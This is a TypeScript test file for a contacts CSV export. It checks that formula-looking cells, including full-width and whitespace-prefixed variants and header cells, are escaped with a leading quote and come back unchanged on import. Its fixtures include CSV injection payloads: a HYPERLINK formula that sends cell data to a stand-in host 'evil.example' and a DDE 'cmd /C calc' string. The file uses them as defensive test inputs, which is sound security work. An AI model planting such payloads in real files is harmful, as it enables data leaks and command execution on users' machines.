/**
 * The contacts CSV export is formula-safe (docs/contacts.md#exports-are-formula-safe): a cell that starts
 * with `=`, `+`, `-`, `@` after leading white space, read as it is or after NFKC normalisation (full-width
 * `＝`, `＋`, `－`, `＠`, small forms), or with a tab or a carriage return, is written with a leading `'`,
 * so a spreadsheet shows it as text instead of running it; header cells too (a variable sent through the
 * public API may be named `=HYPERLINK(…)`); the phone (always E.164) is written as it is. Importing the
 * export restores every value exactly (the import takes the added `'` off again), and the console's
 * export is the same file. Checked through the real server, its export route, its import job and its
 * database; every cell is checked with this file's own reading of a spreadsheet (`spreadsheetRuns`),
 * not with the code under test.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { formulaSafe, unescapeFormula } from '../../src/domain/contacts-csv.ts';
import { signedInClient } from '../console/helpers.ts';
import { ADMIN_TOKEN, eventually, startTestServer, type TestServer } from '../helpers/server.ts';

let s: TestServer;
before(async () => { s = await startTestServer(); });
after(async () => { await s.close(); });

let n = 0;
/** A fresh German mobile number (unique across runs sharing a PostgreSQL database). */
function phone(): string {
  n++;
  return `+49152${String(process.pid % 1000).padStart(3, '0')}${String((Date.now() + n) % 100_000).padStart(5, '0')}`;
}

async function exportCsv(companyId: number): Promise<string> {
  const res = await fetch(`${s.url}/admin/companies/${companyId}/contacts/export`, { headers: { authorization: `Bearer ${ADMIN_TOKEN}` } });
  assert.equal(res.status, 200);
  return res.text();
}

/**
 * Whether a spreadsheet could run `v` as a formula, written independently of src/domain/contacts-csv.ts:
 * tab or CR first, or `=+-@` (ASCII or their full-width and small forms) first after white space.
 */
function spreadsheetRuns(v: string): boolean {
  if (/^[\t\r]/.test(v)) return true;
  const first = (x: string) => x.replace(/^[\s\u3000]+/u, '').charAt(0);
  return '=+-@＝＋－＠﹦﹢﹣﹫'.includes(first(v) || 'x') || '=+-@'.includes(first(v.normalize('NFKC')) || 'x');
}

const DANGEROUS = {
  first_name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  last_name: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  minus: '-2+3',
  plus: '+1+1',
  tab: '\t=1+1',
  cr: '\r=1+1',
  quoted: "'=already quoted",
  twice: "''@twice",
  plain: 'hello = world',
  apostrophe: "'just text",
  space_eq: ' =1+2',
  spaces_at: '   @SUM(A1)',
  nbsp_minus: '\u00a0-1+1',
  ideo_eq: '\u3000=1+2',
  fw_eq: '＝1+2',
  fw_plus: '＋1+1',
  fw_minus: '－1+1',
  fw_at: '＠SUM(A1)',
  small_eq: '﹦1+2',
  space_fw: ' ＝1+2',
  quoted_fw: "'＝x",
  fw_quote: '＇=x', // a full-width apostrophe is no escape: NFKC makes it `'`, which a spreadsheet shows as text
  space_quote: " '=x", // white space before the quote: the quote makes it text already
};

describe('happy', () => {
  test('every formula-looking cell is prefixed with a quote, the phone is not, and the export imports back unchanged', async () => {
    const c = await s.company();
    const p = phone();
    const { first_name, last_name, ...variables } = DANGEROUS;
    await s.admin('PUT', `/admin/companies/${c.companyId}/contacts`, { contacts: [{ phone: p, first_name, last_name, variables }] });

    const text = await exportCsv(c.companyId);
    const [row] = parse(text, { columns: true }) as Record<string, string>[];
    assert.equal(row.phone, p, 'the E.164 phone is written as it is');
    assert.equal(row.first_name, `'${DANGEROUS.first_name}`);
    assert.equal(row.last_name, `'${DANGEROUS.last_name}`);
    assert.equal(row.minus, "'-2+3");
    assert.equal(row.plus, "'+1+1");
    assert.equal(row.tab, "'\t=1+1");
    assert.equal(row.cr, "'\r=1+1");
    assert.equal(row.quoted, "''=already quoted", 'a quote before a formula gets one more, so the import can take one off');
    assert.equal(row.twice, "'''@twice");
    assert.equal(row.plain, 'hello = world');
    assert.equal(row.apostrophe, "'just text", 'a quote before plain text is left alone');
    // Leading white space and full-width or small forms do not hide a formula.
    for (const k of ['space_eq', 'spaces_at', 'nbsp_minus', 'ideo_eq', 'fw_eq', 'fw_plus', 'fw_minus', 'fw_at', 'small_eq', 'space_fw'] as const) {
      assert.equal(row[k], `'${DANGEROUS[k]}`, k);
    }
    assert.equal(row.quoted_fw, "''＝x");
    assert.equal(row.fw_quote, '＇=x');
    assert.equal(row.space_quote, " '=x");
    assert.ok(spreadsheetRuns(DANGEROUS.space_eq) && spreadsheetRuns(DANGEROUS.fw_eq) && !spreadsheetRuns("'=x"), 'the reference reading is sound');
    for (const [k, v] of Object.entries(row)) {
      if (k === 'phone') continue;
      assert.ok(!spreadsheetRuns(v), `${k} starts with a character a spreadsheet runs: ${JSON.stringify(v)}`);
    }

    // The console offers the same file.
    const owner = await signedInClient(s, c.companyId);
    const fromConsole = await owner.get('/console/contacts/export.csv');
    assert.equal(fromConsole.status, 200);
    assert.equal(fromConsole.text, text);

    // Importing the export restores every value: the stored contact is unchanged and so is the export.
    const imported = await fetch(`${s.url}/admin/companies/${c.companyId}/contact-imports`, {
      method: 'POST', headers: { authorization: `Bearer ${ADMIN_TOKEN}`, 'content-type': 'text/csv' }, body: text,
    });
    assert.equal(imported.status, 202);
    const importId = (await imported.json()).import_id;
    const done = await eventually(async () => {
      const x = await s.admin('GET', `/admin/companies/${c.companyId}/contact-imports/${importId}`);
      return x.status === 'completed' ? x : undefined;
    });
    assert.deepEqual([done.created, done.updated, done.failed], [0, 1, 0]);
    const stored = await s.service.deps.database.db.selectFrom('contacts').select(['first_name', 'last_name', 'variables'])
      .where('company_id', '=', c.companyId).where('phone', '=', p).executeTakeFirstOrThrow();
    assert.equal(stored.first_name, DANGEROUS.first_name);
    assert.equal(stored.last_name, DANGEROUS.last_name);
    // The import trims cells (a file's stray spaces); the two values starting with a tab or CR were
    // kept whole through the export and import because the added quote protects them.
    assert.deepEqual(stored.variables, variables);
    assert.equal(await exportCsv(c.companyId), text);
  });

  test('header cells are escaped too: variables named like formulas through the public API', async () => {
    const c = await s.company();
    const p = phone();
    const names = ['=HYPERLINK("http://evil.example/","x")', '@cmd', ' =1+2', '＝1+2', '-x', 'tier'];
    const auto = await s.admin('POST', `/admin/companies/${c.companyId}/automations`, { name: 'hi', type: 'api', active: true, template: { body: 'Hi' } }, 201);
    const sent = await s.api('/api/automations/send', { key: c.key, body: { automation_id: auto.automation_id, contacts: [{ phone: p, variables: Object.fromEntries(names.map((k) => [k, 'v'])) }] } });
    assert.equal(sent.status, 200, sent.text);
    // The contact and its variables are written by the send's fan-out, in the background: wait until the
    // export's header, read before its rows, has them.
    const text = await eventually(async () => {
      const t = await exportCsv(c.companyId);
      return t.includes(p) && (parse(t) as string[][])[0].includes('tier') ? t : undefined;
    });
    const [header, row] = parse(text) as string[][];
    for (const name of names) {
      const i = header.indexOf(spreadsheetRuns(name) ? `'${name}` : name);
      assert.ok(i >= 0, `${name} in ${JSON.stringify(header)}`);
      assert.equal(row[i], 'v');
    }
    for (const h of header) assert.ok(!spreadsheetRuns(h), `header cell ${JSON.stringify(h)}`);
    assert.equal(header[0], 'phone');
    assert.equal(row[0], p);
  });
});

describe('error', () => {
  test('formulaSafe and unescapeFormula are exact inverses, also for strings that look escaped already', () => {
    const samples = ['', 'a', '=', "'", "''", "'=", "''=", "'a", '-', '+49', '@', '\t', '\r', ' =1', '=\'', "'''-x", 'x=1',
      ' =1+2', "' =1", " '=1", '＝1+2', "'＝1", "''＋1", '＇=1', '\u3000@x', '\u00a0-1', '﹫x', '=\u0338x', '\n=1', ' ', "' "];
    for (const v of samples) {
      assert.equal(unescapeFormula(formulaSafe(v)), v, JSON.stringify(v));
      assert.ok(!spreadsheetRuns(formulaSafe(v)), JSON.stringify(v));
    }
    assert.equal(formulaSafe(' =1+2'), "' =1+2");
    assert.equal(formulaSafe('＝1+2'), "'＝1+2");
    assert.equal(formulaSafe('hello'), 'hello');
  });

  test('the export of a company with a formula-named variable does not import again: 422 naming the column, nothing written', async () => {
    const c = await s.company();
    const p = phone();
    const auto = await s.admin('POST', `/admin/companies/${c.companyId}/automations`, { name: 'hi', type: 'api', active: true, template: { body: 'Hi' } }, 201);
    const sent = await s.api('/api/automations/send', { key: c.key, body: { automation_id: auto.automation_id, contacts: [{ phone: p, first_name: 'Ada', variables: { '@cmd': 'x' } }] } });
    assert.equal(sent.status, 200, sent.text);
    // Written by the send's fan-out in the background: wait until the header, read before the rows, has it.
    const text = await eventually(async () => {
      const t = await exportCsv(c.companyId);
      return t.includes(p) && t.split('\n')[0].includes("'@cmd") ? t : undefined;
    });
    const res = await fetch(`${s.url}/admin/companies/${c.companyId}/contact-imports`, {
      method: 'POST', headers: { authorization: `Bearer ${ADMIN_TOKEN}`, 'content-type': 'text/csv' }, body: text.replace(',Ada,', ',Eve,'),
    });
    const j = await res.json() as any;
    assert.equal(res.status, 422);
    assert.match(j.detail[0].msg, /column "@cmd" is no variable name/);
    const row = await s.service.deps.database.db.selectFrom('contacts').select(['first_name']).where('company_id', '=', c.companyId).where('phone', '=', p).executeTakeFirstOrThrow();
    assert.equal(row.first_name, 'Ada');
  });
});

describe('security', () => {
  test('another company exports only its own contacts, escaped the same way', async () => {
    const a = await s.company();
    const b = await s.company();
    await s.admin('PUT', `/admin/companies/${a.companyId}/contacts`, { contacts: [{ phone: phone(), first_name: '=1+1' }] });
    const text = await exportCsv(b.companyId);
    assert.equal(parse(text, { columns: true }).length, 0);
  });
});
